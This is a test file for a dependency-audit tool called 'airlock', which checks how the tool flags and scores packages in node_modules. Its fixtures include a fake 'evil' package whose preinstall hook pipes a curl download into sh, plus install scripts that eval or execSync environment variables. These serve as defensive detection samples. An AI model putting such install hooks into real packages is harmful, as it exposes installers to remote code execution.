// The dependency audit end to end: `airlock audit node_modules --profile audit` and `--deps` group
// findings by package (scoped, nested), read lifecycle scripts and audit the files they run with
// findings raised one level, flag risky scripts on package.json, and score each package.
import { describe, it, before } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { airlock, tree, type JsonEntry } from './cli-helpers.js';
import { auditPackages, planPackages, type PackageSummary } from '../../cli/deps.js';
import { analyze } from '../../analyzer/engine.js';
import { resolvePolicy } from '../../policy/index.js';
import { RULES_BY_ID } from '../../rules/index.js';

const FILES: Record<string, string> = {
  'package.json': '{"name":"app","version":"1.0.0"}',
  'src/app.js': 'export const app = 1;\n',
  // Runs an extension-less script at install time, and downloads in preinstall.
  'node_modules/evil/package.json': JSON.stringify(
    { name: 'evil', version: '1.0.0', scripts: { preinstall: 'curl -s https://example.invalid/a.sh | sh', postinstall: 'node ./scripts/setup', test: 'node t.js' } },
    null,
    2,
  ),
  'node_modules/evil/scripts/setup': 'const env = process.env;\neval(env.PAYLOAD);\n',
  'node_modules/evil/index.js': 'module.exports = () => eval("1");\n',
  'node_modules/evil/lib/package.json': '{"type":"commonjs"}',
  'node_modules/evil/lib/util.js': 'module.exports = 2;\n',
  // Nested copy under the evil package: its own package.
  'node_modules/evil/node_modules/inner/package.json': '{"name":"inner","version":"0.1.0"}',
  'node_modules/evil/node_modules/inner/i.js': 'module.exports = (s) => eval(s);\n',
  // Scoped and clean.
  'node_modules/@scope/nice/package.json': '{"name":"@scope/nice","version":"2.0.0","scripts":{"build":"tsc"}}',
  'node_modules/@scope/nice/index.mjs': 'export default 1;\n',
  // No source files at all, only a script: found through its package.json.
  'node_modules/scriptonly/package.json': '{"name":"scriptonly","version":"3.0.0","scripts":{"install":"node -e \\"require(\'child_process\').execSync(process.env.X)\\""}}',
  'node_modules/native/package.json': '{"name":"native","version":"4.0.0","scripts":{"install":"node-gyp rebuild"}}',
  'node_modules/native/binding.gyp': '{}',
  'node_modules/native/index.js': 'module.exports = 3;\n',
};

interface SarifLog {
  runs: { results: { ruleId: string; level: string; message: { text: string }; locations: { physicalLocation: { artifactLocation: { uri: string }; region: { startLine: number } } }[] }[]; properties: { airlockPackages: PackageSummary[] } }[];
}

describe('airlock audit node_modules --profile audit', () => {
  let root: string;
  let packages: Map<string, PackageSummary>;
  let log: SarifLog;
  before(async () => {
    root = tree(FILES);
    const run = await airlock(root, ['audit', 'node_modules', '--profile', 'audit', '-f', 'sarif']);
    assert.equal(run.code, 1, run.err);
    log = JSON.parse(run.out) as SarifLog;
    packages = new Map(log.runs[0]!.properties.airlockPackages.map((p) => [p.key, p]));
  });

  it('groups files by package: name@version from the package root, scoped and nested ones included', () => {
    assert.deepEqual([...packages.keys()].sort(), ['@scope/nice@2.0.0', 'evil@1.0.0', 'inner@0.1.0', 'native@4.0.0', 'scriptonly@3.0.0']);
    assert.equal(packages.get('evil@1.0.0')!.files, 3, 'index.js, lib/util.js and scripts/setup (lib/package.json is not a package root)');
    assert.deepEqual(packages.get('inner@0.1.0')!.paths, ['node_modules/evil/node_modules/inner']);
  });

  it('audits the files install scripts run and raises their findings one level', () => {
    const setup = log.runs[0]!.results.filter((r) => r.locations[0]!.physicalLocation.artifactLocation.uri === 'node_modules/evil/scripts/setup' && r.ruleId === 'no-eval');
    assert.equal(setup.length, 1);
    assert.equal(setup[0]!.level, 'error', 'no-eval is warn in audit, raised to error at install time');
    assert.match(setup[0]!.message.text, /runs at install time: postinstall/);
    const inner = log.runs[0]!.results.find((r) => r.ruleId === 'no-eval' && r.locations[0]!.physicalLocation.artifactLocation.uri.endsWith('inner/i.js'))!;
    assert.equal(inner.level, 'warning', 'not reached from a script: not raised');
  });

  it('reports install scripts on package.json, risky ones as errors, native builds as notes', () => {
    const scripts = log.runs[0]!.results.filter((r) => r.ruleId === 'install-script');
    const byFile = (suffix: string) => scripts.filter((r) => r.locations[0]!.physicalLocation.artifactLocation.uri.endsWith(suffix));
    const evil = byFile('evil/package.json');
    assert.equal(evil.length, 2, 'preinstall and postinstall, not test');
    assert.ok(evil.every((r) => r.level === 'error'));
    assert.match(evil.find((r) => /preinstall/.test(r.message.text))!.message.text, /downloads from the network; pipes into an interpreter/);
    assert.match(evil.find((r) => /postinstall/.test(r.message.text))!.message.text, /runs scripts\/setup, which has errors/);
    assert.equal(evil.find((r) => /preinstall/.test(r.message.text))!.locations[0]!.physicalLocation.region.startLine, 5);
    assert.match(byFile('scriptonly/package.json')[0]!.message.text, /runs inline code with node -e/);
    assert.equal(byFile('native/package.json')[0]!.level, 'note');
  });

  it('summarises capabilities, attack stages and a risk score per package', () => {
    const evil = packages.get('evil@1.0.0')!;
    // capability-inventory (when registered) also reports the env read; the eval alone implies dynamic code.
    const expected = RULES_BY_ID.has('capability-inventory') ? ['dynamic code', 'env', 'install scripts'] : ['dynamic code', 'install scripts'];
    assert.deepEqual(evil.capabilities, expected);
    assert.deepEqual(evil.stages, ['execution']);
    assert.equal(evil.level, 'high');
    assert.ok(evil.score >= 7 && evil.score <= 10, String(evil.score));
    assert.equal(packages.get('scriptonly@3.0.0')!.level, 'high');
    assert.equal(packages.get('inner@0.1.0')!.level, 'medium');
    assert.deepEqual(packages.get('native@4.0.0')!.capabilities, ['install scripts', 'native']);
    assert.equal(packages.get('native@4.0.0')!.level, 'low');
    assert.equal(packages.get('@scope/nice@2.0.0')!.score, 0);
    const order = log.runs[0]!.properties.airlockPackages.map((p) => p.score);
    assert.deepEqual(order, [...order].sort((a, b) => b - a), 'riskiest first');
  });

  it('--deps implies the audit profile and node_modules, and prints the package table', async () => {
    const run = await airlock(root, ['audit', '--deps']);
    assert.equal(run.code, 1);
    assert.match(run.out, /Packages: 5 packages audited, 3 at medium risk or above/);
    assert.match(run.out, /\n {2}\d+\s+high\s+evil@1\.0\.0\s+3 errors, \d+ warnings? · dynamic code, [^\n]*install scripts/);
    assert.match(run.out, /preinstall: curl -s https:\/\/example\.invalid\/a\.sh \| sh/);
    assert.doesNotMatch(run.out, /src\/app\.js/, 'the project itself is not part of a --deps audit');
    const json = await airlock(root, ['audit', '--deps', '-f', 'json']);
    const entries = JSON.parse(json.out) as JsonEntry[];
    assert.ok(entries.some((e) => e.filePath === join(root, 'node_modules/evil/package.json')));
  });

  it('takes capabilities from capability-inventory findings when that rule reports them', async () => {
    const file = join(root, 'node_modules/@scope/nice/index.mjs');
    const plan = await planPackages([file], [join(root, 'node_modules')], root);
    const inventory = (messageId: string) => ({ ruleId: 'capability-inventory', messageId, message: messageId, severity: 'info' as const, line: 1, column: 1, endLine: 1, endColumn: 2, fingerprint: messageId });
    const report = analyze('export default 1;\n', { filename: file, policy: resolvePolicy({ profile: 'audit' }) });
    report.findings.push(inventory('network'), inventory('environment'), inventory('native'));
    report.infoCount = 3;
    const { packages: summaries } = auditPackages(plan, [report], resolvePolicy({ profile: 'audit' }), root);
    const nice = summaries.find((p) => p.key === '@scope/nice@2.0.0')!;
    assert.deepEqual(nice.capabilities, ['env', 'native', 'network']);
    assert.equal(nice.level, 'low', 'capabilities alone are info');
    assert.equal(nice.score, 2);
  });

  it('shows progress on a terminal, never under CI', async () => {
    const run = await airlock(root, ['audit', '--deps', '--concurrency', '2'], { tty: true, env: {} });
    assert.match(run.err, /airlock: \d+\/\d+ files/);
    const ci = await airlock(root, ['audit', '--deps'], { tty: true, env: { CI: 'true' } });
    assert.doesNotMatch(ci.err, /files \(/);
  });
});
